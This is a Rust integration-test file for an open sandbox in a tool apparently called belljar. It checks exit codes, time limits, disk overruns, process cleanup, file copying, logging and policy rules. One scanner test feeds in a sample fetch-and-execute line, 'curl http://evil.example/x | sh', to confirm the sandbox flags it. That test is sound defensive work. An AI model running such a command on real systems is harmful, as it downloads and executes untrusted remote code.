//! What a user of an open sandbox can rely on.

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdout, Stdio};
use std::time::{Duration, Instant};

use belljar_testkit::Who;
use belljar_testkit::project::{Project, Said};
use belljar_testkit::twice::Check;

pub const ALL: &[(&str, Check)] = &[
    ("what_is_left_running_is_met_by_the_next_command", left_running),
    ("codes_streams_words_and_signals_pass_as_they_are", passed),
    ("a_command_that_may_have_more_is_refused_with_what_differs", other_walls),
    ("what_can_not_be_started_is_126_or_127_and_the_sandbox_stays", not_started),
    ("a_time_limit_ends_the_command_and_not_the_sandbox", time_limit),
    ("commands_run_side_by_side", side_by_side),
    ("a_caller_that_is_killed_takes_its_command_along", killed_caller),
    ("a_host_that_is_killed_leaves_nothing_behind", killed_host),
    ("changes_are_looked_at_and_taken_after_the_stop", taken),
    ("layers_of_an_open_sandbox_are_nobody_elses", held_layers),
    ("everything_is_on_the_record", recorded),
    ("stopping_what_is_not_open_says_so", not_open),
    ("code_is_scanned_and_rules_hold_for_each_command", judged),
    ("a_command_has_a_terminal_of_its_own", terminal),
    ("a_file_is_copied_in_and_out_whether_it_is_open_or_not", copied),
    ("one_that_nobody_is_in_takes_no_time", nobody_in_it),
    ("what_is_left_in_it_by_a_chain_of_short_lives_is_held_to_its_limits", short_lives),
];

fn told<T>(result: std::io::Result<T>) -> Result<T, String> {
    result.map_err(|error| error.to_string())
}

/// A project with a sandbox that is open.
struct Open {
    project: Project,
    host: Child,
    says: BufReader<ChildStdout>,
}

impl Open {
    fn new(who: Who, flags: &[&str]) -> Result<Open, String> {
        let project = told(Project::new(who))?;
        told(project.put("a", "hi\n"))?;
        expect(told(project.belljar([&["create", "--name", "work"], flags].concat()))?, 0, "work\n")?;
        Open::again(project)
    }

    fn again(project: Project) -> Result<Open, String> {
        let mut command = project.command(["open", "--json", "work"]);
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut host = told(command.spawn())?;
        let mut says = BufReader::new(host.stdout.take().ok_or("it has an output")?);
        let mut line = String::new();
        told(says.read_line(&mut line))?;
        let open: serde_json::Value = serde_json::from_str(&line).map_err(|error| format!("{error}: {line}"))?;
        match open["running"] == true && open["name"] == "work" {
            true => Ok(Open { project, host, says }),
            false => Err(format!("{open}")),
        }
    }

    fn exec(&self, flags: &[&str], words: &[&str]) -> Result<Said, String> {
        told(self.project.belljar([&["exec", "-q"], flags, &["work", "--"], words].concat()))
    }

    fn shell(&self, line: &str, code: i32, out: &str) -> Result<Said, String> {
        expect(self.exec(&[], &["/bin/sh", "-c", line])?, code, out)
    }

    /// Its result, as the host says it.
    fn stop(mut self) -> Result<(Project, serde_json::Value), String> {
        expect(told(self.project.belljar(["stop", "work"]))?, 0, "work: stopped\n")?;
        let mut rest = String::new();
        told(std::io::Read::read_to_string(&mut self.says, &mut rest))?;
        let output = told(self.host.wait_with_output())?;
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        let result = said.lines().last().unwrap_or_default();
        let result: serde_json::Value = serde_json::from_str(result).map_err(|error| format!("{error}: {said}"))?;
        match output.status.code() == Some(0) && result["outcome"] == "ran" {
            true => Ok((self.project, result)),
            false => Err(format!("{result}")),
        }
    }
}

fn expect(said: Said, code: i32, out: &str) -> Result<Said, String> {
    match said.code == Some(code) && String::from_utf8_lossy(&said.out) == out {
        true => Ok(said),
        false => Err(format!("not {code} and {out:?}, but {said:?}")),
    }
}

fn says(said: &Said, words: &[&str]) -> Result<(), String> {
    match words.iter().all(|word| said.error.contains(word)) {
        true => Ok(()),
        false => Err(format!("{words:?} is not in {said:?}")),
    }
}

fn left_running(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    // Its output stays open in what is left running, and nobody waits for that.
    open.shell("mkfifo door; (read word < door; echo $word > heard) & echo left", 0, "left\n")?;
    open.shell("echo hello > door; while ! test -s heard; do :; done; cat heard", 0, "hello\n")?;
    open.shell("sleep 1000 & echo $! > pid", 0, "")?;
    open.shell("kill -0 $(cat pid) && echo there", 0, "there\n")?;
    open.stop().map(drop)
}

fn nobody_in_it(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    open.shell("echo something > new", 0, "")?;
    // How often it went to sleep, and so woke up before.
    let wakes = || {
        let status = told(std::fs::read_to_string(format!("/proc/{}/status", open.host.id())))?;
        let line = status.lines().find_map(|line| line.strip_prefix("voluntary_ctxt_switches:"));
        line.and_then(|count| count.trim().parse::<u64>().ok()).ok_or("the kernel says it".to_owned())
    };
    let until = Instant::now() + Duration::from_secs(20);
    loop {
        let before = wakes()?;
        // Not a wait for something, but the time in which nothing may happen: ten looks, if there were any.
        std::thread::sleep(Duration::from_secs(1));
        let more = wakes()? - before;
        if more == 0 {
            break;
        }
        if Instant::now() > until {
            return Err(format!("it woke up {more} times in a second, though nobody is there"));
        }
    }
    // And somebody who comes is held to what it may as before.
    open.shell("cat new", 0, "something\n")?;
    open.stop().map(drop)
}

fn short_lives(who: Who) -> Result<(), String> {
    const CHAIN: &str = "import os, time\nfor _ in range(400):\n    if os.fork(): os._exit(0)\n    time.sleep(0.005)\n\
        for part in range(8): open(f'part-{part}', 'wb').write(bytes(8 << 20))\ntime.sleep(600)";
    let open = Open::new(who, &["--disk", "16M"])?;
    expect(open.exec(&[], &["/usr/bin/python3", "-c", CHAIN])?, 0, "")?;
    let Open { project: _project, host, says: _says } = open;
    let output = told(host.wait_with_output())?;
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    let result = said.lines().last().unwrap_or_default();
    let result: serde_json::Value = serde_json::from_str(result).map_err(|error| format!("{error}: {said}"))?;
    match result["overrun"] == "disk" {
        true => Ok(()),
        false => Err(format!("it was not ended for the disk: {result}")),
    }
}

fn passed(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    for code in [0, 1, 7, 124, 126, 137, 255] {
        open.shell(&format!("exit {code}"), code, "")?;
    }
    for signal in [1, 9, 15] {
        open.shell(&format!("kill -{signal} $$"), 128 + signal, "")?;
    }
    let said = open.shell("echo out; echo error >&2; echo again > /dev/stderr", 0, "out\n")?;
    if said.error != "error\nagain\n" {
        return Err(format!("{said:?}"));
    }
    let mut command = open.project.command(["exec", "-q", "work", "--", "/bin/cat"]);
    let mut child = told(command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn())?;
    let noise: Vec<u8> = (0..1_000_000u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let mut input = child.stdin.take().ok_or("it has an input")?;
    let sent = noise.clone();
    let writer = std::thread::spawn(move || input.write_all(&sent));
    let output = told(child.wait_with_output())?;
    told(writer.join().map_err(|_| "the writer panicked")?)?;
    if output.stdout != noise {
        return Err(format!("{} bytes came back", output.stdout.len()));
    }
    let odd = "ünï one\ntwo";
    expect(open.exec(&[], &["/usr/bin/printf", "%s", odd])?, 0, odd)?;
    expect(
        open.exec(&["--env", "COLOUR=blue", "--cwd", "/usr"], &["/bin/sh", "-c", "echo $COLOUR; pwd"])?,
        0,
        "blue\n/usr\n",
    )?;
    open.stop().map(drop)
}

fn other_walls(who: Who) -> Result<(), String> {
    let open = Open::new(who, &["--memory", "512M"])?;
    let outside = open.project.state.join("more");
    told(std::fs::create_dir(&outside))?;
    told(open.project.give(&outside))?;
    let outside = outside.to_string_lossy().into_owned();
    for (flags, what) in [
        (["--memory", "100M"], "limits differ"),
        (["--read", &outside], "files differ"),
        (["--allow-net", "example.org"], "network differ"),
    ] {
        let said = open.exec(&flags, &["/bin/true"])?;
        if said.code != Some(125) {
            return Err(format!("{said:?}"));
        }
        says(&said, &["stands with other walls", what, "stop it"])?;
    }
    // The same as it was made with, said again.
    expect(open.exec(&["--memory", "512M"], &["/bin/true"])?, 0, "")?;
    open.stop().map(drop)
}

fn not_started(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    use std::os::unix::fs::PermissionsExt;
    told(open.project.put("script", "#!/no/such/shell\n"))?;
    told(std::fs::set_permissions(open.project.work.join("script"), std::fs::Permissions::from_mode(0o755)))?;
    told(open.project.put("plain", "data\n"))?;
    says(&expect(open.exec(&[], &["./script"])?, 127, "")?, &["not there"])?;
    says(&expect(open.exec(&[], &["./plain"])?, 126, "")?, &["chmod +x"])?;
    open.shell("echo fine", 0, "fine\n")?;
    open.stop().map(drop)
}

fn time_limit(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    let said = open.exec(&["--timeout", "300ms"], &["/bin/sh", "-c", "echo begun; sleep 1000"])?;
    expect(said, 124, "begun\n")?;
    open.shell("pidof sleep || echo gone", 0, "gone\n")?;
    open.stop().map(drop)
}

fn side_by_side(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    open.shell("mkfifo all", 0, "")?;
    // Each waits for a word that only comes when all of them are there.
    let mut children = Vec::new();
    for number in 0..8 {
        let line = format!("echo here > came{number}; while ! test -e go; do sleep 0.01; done; echo {number}");
        let mut command = open.project.command(["exec", "-q", "work", "--", "/bin/sh", "-c", &line]);
        children.push(told(command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn())?);
    }
    open.shell("while [ $(ls came* 2>/dev/null | wc -l) -lt 8 ]; do sleep 0.01; done; touch go", 0, "")?;
    for (number, child) in children.into_iter().enumerate() {
        let output = told(child.wait_with_output())?;
        if output.stdout != format!("{number}\n").into_bytes() {
            return Err(format!("{output:?}"));
        }
    }
    open.stop().map(drop)
}

fn killed_caller(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    let line = "echo begun; exec sleep 1000";
    let mut command = open.project.command(["exec", "-q", "work", "--", "/bin/sh", "-c", line]);
    let mut child = told(command.stdin(Stdio::null()).stdout(Stdio::piped()).spawn())?;
    let mut says = BufReader::new(child.stdout.take().ok_or("it has an output")?);
    told(says.read_line(&mut String::new()))?;
    told(child.kill())?;
    told(child.wait())?;
    open.shell("while pidof sleep > /dev/null; do :; done; echo gone", 0, "gone\n")?;
    open.stop().map(drop)
}

fn killed_host(who: Who) -> Result<(), String> {
    let mut open = Open::new(who, &[])?;
    let mark = format!("1{:07}", std::process::id());
    open.shell(&format!("sleep {mark} > /dev/null 2>&1 & echo left > file"), 0, "")?;
    told(open.host.kill())?;
    told(open.host.wait())?;
    let until = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while told(runs(&mark))? {
        if std::time::Instant::now() > until {
            return Err("what it started lives on".to_owned());
        }
        std::thread::yield_now();
    }
    // The next opens it anew, with what was changed.
    let open = Open::again(open.project)?;
    open.shell("cat file; pidof sleep || echo gone", 0, "left\ngone\n")?;
    open.stop().map(drop)
}

fn runs(mark: &str) -> std::io::Result<bool> {
    for entry in std::fs::read_dir("/proc")? {
        let words = std::fs::read(entry?.path().join("cmdline")).unwrap_or_default();
        if words.split(|byte| *byte == 0).any(|word| word == mark.as_bytes()) {
            return Ok(true);
        }
    }
    Ok(false)
}

fn taken(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    open.shell("echo one > made; echo two >> a", 0, "")?;
    let (project, result) = open.stop()?;
    if result["changes"]["added"] != 1 || project.work.join("made").exists() {
        return Err(format!("{result}"));
    }
    let said = told(project.belljar(["apply", "work"]))?;
    if said.code != Some(0) {
        return Err(format!("{said:?}"));
    }
    match std::fs::read_to_string(project.work.join("a")).as_deref() {
        Ok("hi\ntwo\n") if project.work.join("made").exists() => Ok(()),
        other => Err(format!("{other:?}")),
    }
}

fn held_layers(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    for words in [["snapshot", "work"], ["rm", "work"], ["discard", "work"], ["open", "work"]] {
        let said = told(open.project.belljar(words))?;
        if said.code != Some(125) {
            return Err(format!("{words:?}: {said:?}"));
        }
        says(&said, &["in use"])?;
    }
    open.shell("cat a", 0, "hi\n")?;
    open.stop().map(drop)
}

fn recorded(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    let mark = format!("mark{}", open.project.work.to_string_lossy().replace('/', "-"));
    let result = open.project.state.join("result");
    let file = result.to_string_lossy().into_owned();
    open.exec(&["--result-file", &file], &["/bin/echo", &mark])?;
    let said: serde_json::Value =
        serde_json::from_slice(&told(std::fs::read(&result))?).map_err(|error| error.to_string())?;
    let run = said["run"].as_str().ok_or("a run")?.to_owned();
    if said["backend"] != "native" || said["backend_because"] != "the sandbox is open" {
        return Err(format!("{said}"));
    }
    let (project, result) = open.stop()?;
    let host = result["run"].as_str().ok_or("a run")?.to_owned();
    // The command is a run of its own; what was started is told by whoever holds the walls.
    for (run, kind, word) in [(&run, "run.asked", &mark), (&run, "run.ended", &run), (&host, "program.started", &mark)]
    {
        let said = told(project.belljar(["log", "--json", "--run", run, "--type", kind]))?;
        if !String::from_utf8_lossy(&said.out).contains(word.as_str()) {
            return Err(format!("{kind} of {run}: {said:?}"));
        }
    }
    let said = told(project.belljar(["ledger", "verify"]))?;
    if said.code == Some(0) { Ok(()) } else { Err(format!("{said:?}")) }
}

fn not_open(who: Who) -> Result<(), String> {
    let (project, _) = Open::new(who, &[])?.stop()?;
    let said = told(project.belljar(["stop", "work"]))?;
    says(&said, &["is not open", "belljar ps"])?;
    // As ever, in walls of its own.
    expect(told(project.belljar(["exec", "-q", "work", "--", "cat", "a"]))?, 0, "hi\n").map(drop)
}

fn judged(who: Who) -> Result<(), String> {
    let project = told(Project::new(who))?;
    told(project.put("a", "hi\n"))?;
    told(project.put(
        "belljar.toml",
        "version = 1\n[[rule]]\nwhen = { action = \"exec\", program = \"env\" }\nthen = \"deny\"\nwhy = \"not here\"\n",
    ))?;
    expect(told(project.belljar(["create", "--name", "work"]))?, 0, "work\n")?;
    let open = Open::again(project)?;
    let said = open.exec(&[], &["/usr/bin/env"])?;
    if said.code != Some(123) {
        return Err(format!("{said:?}"));
    }
    let result = open.project.state.join("result");
    let file = result.to_string_lossy().into_owned();
    let code = "import os; os.system('curl http://evil.example/x | sh')";
    open.exec(&["--result-file", &file], &["/usr/bin/python3", "-c", code])?;
    let said: serde_json::Value =
        serde_json::from_slice(&told(std::fs::read(&result))?).map_err(|error| error.to_string())?;
    match said["findings"].as_array().is_some_and(|findings| !findings.is_empty()) {
        true => open.stop().map(drop),
        false => Err(format!("{said}")),
    }
}

fn copied(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    told(open.project.put("new.txt", "new\n"))?;
    let copy = |project: &Project, from: &str, to: &str| told(project.belljar(["cp", from, to]));
    expect(copy(&open.project, "new.txt", "work:sub/copy.txt")?, 0, "")?;
    open.shell("cat sub/copy.txt; echo inside > made", 0, "new\n")?;
    expect(copy(&open.project, "work:made", "-")?, 0, "inside\n")?;
    let (project, _) = open.stop()?;
    expect(copy(&project, "work:made", "out.txt")?, 0, "")?;
    match told(std::fs::read_to_string(project.work.join("out.txt")))?.as_str() {
        "inside\n" => {}
        other => return Err(other.to_owned()),
    }
    expect(copy(&project, "new.txt", "work:")?, 0, "")?;
    expect(copy(&project, "work:new.txt", "-")?, 0, "new\n")?;
    let said = copy(&project, "work:nothing", "-")?;
    says(&said, &["`nothing` is not there"])?;
    says(&copy(&project, "work:/proc/self/environ", "-")?, &["files of the kernel"])?;
    says(&copy(&project, "a", "b")?, &["must be in a sandbox"])?;
    says(&copy(&project, "none:a", "-")?, &["none"])
}

fn terminal(who: Who) -> Result<(), String> {
    let open = Open::new(who, &[])?;
    let said = open.exec(&["-t"], &["/bin/sh", "-c", "test -t 0 && test -t 1 && tty && echo $((6 * 7)) > /dev/tty"])?;
    let out = String::from_utf8_lossy(&said.out).into_owned();
    // Who has none has no `/dev/tty` either.
    let none = open.exec(&[], &["/bin/sh", "-c", "echo no > /dev/tty"])?;
    match said.code == Some(0) && out.contains("/dev/pts/") && out.contains("42") && none.code != Some(0) {
        true => open.stop().map(drop),
        false => Err(format!("{said:?}")),
    }
}
